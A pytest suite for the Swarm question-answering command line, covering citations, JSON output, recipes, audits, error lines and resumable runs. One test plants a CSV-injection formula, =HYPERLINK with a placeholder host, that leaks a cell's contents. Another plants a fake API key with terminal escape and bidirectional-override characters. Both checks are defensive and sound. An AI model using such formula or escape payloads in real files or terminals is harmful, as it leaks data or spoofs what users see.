"""The real command line: what it prints where, how it ends, and each mistake as one line."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import apsw
import pytest
from filelock import FileLock

from swarm.cli.recipes import as_command
from swarm.errors import RecipeError
from swarm.recipe import load
from swarm.store.database import APPLICATION_ID

Run = Callable[..., "subprocess.CompletedProcess[str]"]

QUESTION = "Who kept the lighthouse at Lime Rock?"


@pytest.fixture(autouse=True)
def notes(tmp_path: Path) -> Path:
    folder = tmp_path / "notes"
    folder.mkdir()
    (folder / "lime-rock.md").write_text(
        "# Lime Rock\n\nIda Lewis kept the lighthouse at Lime Rock for thirty-two years.\n\n"
        "She rowed out in storms, and saved eighteen people.\n"
    )
    (folder / "fastnet.md").write_text("# Fastnet\n\nThe tower at Fastnet was built of Cornish granite.\n")
    return folder


def test_an_answer_goes_to_stdout_with_its_citations(process: Run) -> None:
    done = process("ask", QUESTION, "notes")
    assert done.returncode == 0, done.stderr
    assert "Ida Lewis" in done.stdout
    assert "[1] notes/lime-rock.md:3" in done.stdout
    assert "read 2 sources" in done.stdout
    assert done.stderr == ""


def test_json_is_one_object_whose_quotes_are_the_text_itself(swarm: Run, tmp_path: Path) -> None:
    done = swarm("ask", QUESTION, "notes", "--json")
    assert done.returncode == 0, done.stderr
    found = json.loads(done.stdout)
    assert found["status"] == "answered"
    assert found["citations"]
    for citation in found["citations"]:
        text = (tmp_path / citation["source"]).read_text()
        assert text[citation["start"] : citation["end"]] == citation["quote"]
        assert text[: citation["start"]].count("\n") + 1 == citation["line"]
    coverage = found["coverage"]
    total = sum(len(path.read_text()) for path in (tmp_path / "notes").iterdir())
    assert (coverage["chars_total"], coverage["chars_read"]) == (total, total)


def test_what_the_corpus_does_not_say_is_no_evidence_and_no_failure(swarm: Run) -> None:
    done = swarm("ask", "Which treaty ended the war of 1812?", "notes", "--json")
    assert done.returncode == 0
    found = json.loads(done.stdout)
    assert (found["status"], found["citations"]) == ("no_evidence", [])


def test_standard_input_is_a_source(process: Run) -> None:
    done = process("ask", QUESTION, "-", "--json", stdin="Ida Lewis kept the lighthouse at Lime Rock.\n")
    assert json.loads(done.stdout)["citations"][0]["quote"].startswith("Ida Lewis")


def test_the_log_is_json_on_stderr_and_holds_no_key(process: Run, tmp_path: Path) -> None:
    key = "a key of no known form 4711"
    done = process("ask", QUESTION, "notes", "--json", "--log-json", OPENAI_API_KEY=key)
    assert done.returncode == 0
    json.loads(done.stdout)
    for line in done.stderr.splitlines():
        assert json.loads(line)["event"]
    assert key not in done.stderr


def test_a_reader_that_goes_away_early_is_no_error_worth_telling(tmp_path: Path) -> None:
    command = f"{Path(sys.executable).parent / 'swarm'} --help | true"
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, cwd=tmp_path)
    assert done.stderr == ""


@pytest.mark.parametrize("word", ["--help", "--version"])
def test_help_and_version_answer_at_once(process: Run, word: str) -> None:
    best = 9.0
    for _ in range(3):
        began = time.perf_counter()
        assert process(word).returncode == 0
        best = min(best, time.perf_counter() - began)
    assert best < 0.6, "0.3 s on an idle machine: what is imported at the top of swarm/cli?"


def test_bare_swarm_shows_its_help(swarm: Run) -> None:
    done = swarm()
    assert done.returncode == 0
    assert "ask" in done.stdout
    assert "resume" in done.stdout


def test_the_recipes_that_come_with_it_are_listed(swarm: Run) -> None:
    listed = swarm("run", "--help").stdout
    assert all(name in listed for name in ("answer", "audit", "digest"))


# Recipes

RECIPE = '''
from swarm import Answer, Swarm, Task, recipe

@recipe
async def mine(swarm: Swarm, paths: list[str], about: str = "Fastnet", times: int = 1) -> Answer:
    """Ask what something was built of.

    Args:
        about: The thing.
        times: How often to print.
    """
    for _ in range(times):
        print("printed by the recipe")
    return await swarm.run(Task(questions=(f"What was the tower at {about} built of?",), paths=tuple(paths)))
'''


def test_a_recipe_of_ones_own_has_its_parameters_as_options(swarm: Run, tmp_path: Path) -> None:
    (tmp_path / "mine.py").write_text(RECIPE)
    assert "--times N" in swarm("run", "mine.py", "--help").stdout
    done = swarm("run", "mine.py", "--times", "2", "notes")
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("printed by the recipe") == 2
    assert "Cornish granite" in done.stdout


def test_what_a_recipe_prints_does_not_disturb_the_json(swarm: Run, tmp_path: Path) -> None:
    (tmp_path / "mine.py").write_text(RECIPE)
    done = swarm("run", "mine.py", "notes", "--json", "--times", "1")
    assert "granite" in json.loads(done.stdout)["answer"]
    assert "printed by the recipe" in done.stderr


def test_an_audit_asks_every_item_every_question(swarm: Run, tmp_path: Path) -> None:
    (tmp_path / "checks.txt").write_text("# what to ask\nWho kept the lighthouse?\n\n")
    done = swarm(
        "run", "audit", "notes", "--questions", "checks.txt", "--check", "What was the tower built of?", "--quiet"
    )
    assert done.returncode == 0, done.stderr
    with (tmp_path / "audit.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert {row["item"] for row in rows} == {"notes/lime-rock.md", "notes/fastnet.md"}
    (kept,) = [row["Who kept the lighthouse?"] for row in rows if row["item"] == "notes/lime-rock.md"]
    assert 'notes/lime-rock.md:3 "Ida Lewis kept the lighthouse' in kept
    table = json.loads((tmp_path / "audit.json").read_text())
    assert len(table["items"]) == 2
    assert all(len(item["cells"]) == 2 for item in table["items"])
    quoted = [citation for item in table["items"] for cell in item["cells"] for citation in cell["citations"]]
    for citation in quoted:
        text = (tmp_path / citation["source"]).read_text()
        assert text[citation["start"] : citation["end"]] == citation["quote"]


def test_no_cell_of_an_audit_is_a_formula(swarm: Run, tmp_path: Path) -> None:
    evil = tmp_path / "=evil.txt"
    evil.write_text('=HYPERLINK("http://e.org?"&A1) is what the lighthouse keeper wrote.\n')
    done = swarm("run", "audit", "notes", "=evil.txt", "--check", "=What did the lighthouse keeper write?")
    assert done.returncode == 0, done.stderr
    with (tmp_path / "audit.csv").open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.lstrip()[:1] in {"=", "+", "-", "@"}]


def test_a_digest_has_a_citation_in_every_sentence(swarm: Run) -> None:
    found = json.loads(swarm("run", "digest", "notes", "--words", "40", "--json").stdout)
    assert found["status"] == "answered"
    assert found["statements"]
    assert all(statement["citations"] for statement in found["statements"])


# Mistakes: one line on stderr, nothing on stdout, exit code 2


def mistake(done: subprocess.CompletedProcess[str]) -> str:
    assert done.returncode == 2, done.stderr
    assert done.stdout == ""
    (line,) = done.stderr.splitlines()
    assert line.startswith("swarm: ")
    return line.removeprefix("swarm: ")


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        ([], "missing argument 'QUESTION' (see swarm ask --help)"),
        (["Why?"], "missing argument 'PATH' (see swarm ask --help)"),
        (["Why?", "notes", "--nope"], "no such option: --nope"),
        (["Why?", "notes", "--window", "wide"], "--window"),
        (["Why?", "notes", "--window", "0"], "--window"),
        (["Why?", "notes", "--model", "anthropic:any"], "set ANTHROPIC_API_KEY"),
    ],
)
def test_a_command_that_does_not_parse_says_what_is_wrong(swarm: Run, arguments: list[str], says: str) -> None:
    assert says in mistake(swarm("ask", *arguments))


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["nowhere"], "nowhere does not exist"),
        (["notes", "--model", "gtp-5"], "unknown model 'gtp-5'"),
        (["notes", "--model", "openai:any"], "set OPENAI_API_KEY"),
        (["notes", "--window", "20"], "window of 20 tokens is too small"),
        (["notes", "--store", "/proc/nowhere/swarm.db"], "/proc/nowhere/swarm.db cannot be written"),
        (["notes", "--store", "notes/fastnet.md"], "notes/fastnet.md is not a Swarm store"),
    ],
)
def test_a_mistake_is_one_line_that_says_what_and_where(process: Run, arguments: list[str], says: str) -> None:
    assert says in mistake(process("ask", QUESTION, *arguments))


def test_an_unknown_command_is_told_what_is_near(swarm: Run) -> None:
    assert "did you mean 'ask'" in mistake(swarm("aks")).lower()


def test_a_recipe_that_is_wrong_names_its_line(process: Run, tmp_path: Path) -> None:
    (tmp_path / "mine.py").write_text("x = 1\nasync def broken(:\n")
    assert mistake(process("run", "mine.py", "notes")) == "mine.py:2: invalid syntax"
    (tmp_path / "mine.py").write_text(RECIPE.replace("range(times)", "range(1 / 0)"))
    assert mistake(process("run", "mine.py", "notes")) == "mine.py:12: ZeroDivisionError: division by zero"
    assert "no such option: --tmes" in mistake(process("run", "mine.py", "notes", "--tmes", "2"))


def test_a_mistake_shows_no_key_and_commands_no_terminal(swarm: Run, tmp_path: Path) -> None:
    text = RECIPE.replace("range(times)", r"[][int('sk-ant-0123456789abcdef \x1b[2J \u202e')]")
    (tmp_path / "mine.py").write_text(text)
    line = mistake(swarm("run", "mine.py", "notes"))
    assert "ValueError" in line
    assert "0123456789abcdef" not in line
    assert line.isprintable()


@pytest.mark.parametrize(
    ("before", "after", "says"),
    [
        ("times: int", "window: int", "--window is an option of every run"),
        ("times: int = 1", "times: dict[str, int] | None = None", "the type of times has no form"),
        ("times: int = 1", "times: int | str = 1", "the type of times has no form"),
        ("times: int = 1", "times: list[list[int]] | None = None", "the type of times has no form"),
    ],
)
def test_a_parameter_that_cannot_be_an_option_says_so(tmp_path: Path, before: str, after: str, says: str) -> None:
    path = tmp_path / "mine.py"
    path.write_text(RECIPE.replace(before, after))
    with pytest.raises(RecipeError, match=says) as caught:
        as_command(load(path))
    assert str(caught.value).startswith(f"{path}:4: ")


def test_an_audit_without_questions_says_how_to_give_them(swarm: Run) -> None:
    assert "--check TEXT" in mistake(swarm("run", "audit", "notes"))


def test_nothing_that_can_be_read_is_a_mistake(process: Run, tmp_path: Path) -> None:
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "a.bin").write_bytes(b"\0\1\2" * 100)
    assert "nothing to read in bin (bin/a.bin: binary)" in mistake(process("ask", QUESTION, "bin"))


def test_a_corrupt_pdf_among_good_files_is_a_skip_with_its_reason(swarm: Run, process: Run, notes: Path) -> None:
    (notes / "broken.pdf").write_bytes(b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog")
    found = json.loads(process("ask", QUESTION, "notes", "--json").stdout)
    (skip,) = found["coverage"]["skipped"]
    assert skip["source"] == "notes/broken.pdf"
    assert skip["reason"]
    assert found["status"] == "answered"
    assert "broken.pdf" in mistake(swarm("ask", QUESTION, "notes/broken.pdf"))


def test_a_store_in_use_says_so_at_once(process: Run, tmp_path: Path) -> None:
    (tmp_path / ".swarm").mkdir()
    with FileLock(tmp_path / ".swarm" / "swarm.db.lock"):
        assert ".swarm/swarm.db is in use by another process" in mistake(process("ask", QUESTION, "notes"))


def test_a_store_of_a_newer_version_is_left_as_it_is(process: Run, tmp_path: Path) -> None:
    store = tmp_path / "new.db"
    connection = apsw.Connection(str(store))
    connection.execute(
        f"PRAGMA application_id = {APPLICATION_ID}; PRAGMA user_version = 999; CREATE TABLE later (x)"
    )
    connection.close()
    before = store.read_bytes()
    line = mistake(process("ask", QUESTION, "notes", "--store", "new.db"))
    assert "new.db was written by a newer version of Swarm (schema 999" in line
    assert store.read_bytes() == before


def test_a_run_that_is_not_there_cannot_go_on(swarm: Run) -> None:
    assert "does not exist" in mistake(swarm("resume", "20260101-000000-000000"))
    swarm("ask", QUESTION, "notes")
    assert "holds no run 20260101-000000-000000" in mistake(swarm("resume", "20260101-000000-000000"))


def test_a_limit_is_no_mistake_but_a_partial_answer(swarm: Run) -> None:
    done = swarm("ask", QUESTION, "notes", "--max-tokens", "10", "--json")
    assert done.returncode == 3
    found = json.loads(done.stdout)
    assert (found["status"], found["complete"]) == ("partial", False)
    assert f"go on with: swarm resume {found['run_id']}" in done.stderr
    again = swarm("resume", found["run_id"], "--json", "--max-tokens", "1000000")
    assert again.returncode == 0, again.stderr
    assert json.loads(again.stdout)["status"] == "answered"


def test_a_terminal_without_our_characters_and_a_full_disk_are_no_traceback(process: Run) -> None:
    poor = {"LC_ALL": "POSIX", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0", "PYTHONIOENCODING": "ascii"}
    done = process("ask", QUESTION, "notes", **poor)
    assert (done.returncode, done.stderr) == (0, "")
    assert "Ida Lewis" in done.stdout
    if Path("/dev/full").exists():
        program = [str(Path(sys.executable).parent / "swarm"), "--help"]
        with Path("/dev/full").open("w") as full:
            full_disk = subprocess.run(program, stdout=full, stderr=subprocess.PIPE, text=True, timeout=60)
        assert full_disk.returncode == 1
        assert "swarm: the output cannot be written" in full_disk.stderr
        assert len(full_disk.stderr.splitlines()) == 1


def test_an_interrupt_while_it_is_still_loading_is_no_traceback() -> None:
    program = (
        "import sys\n"
        "class Interrupted:\n"
        "    def find_spec(self, name, *_):\n"
        "        if name == 'swarm.cli.main': raise KeyboardInterrupt\n"
        "sys.meta_path.insert(0, Interrupted())\n"
        "from swarm.__main__ import run\n"
        "run()\n"
    )
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stderr) == (130, "")
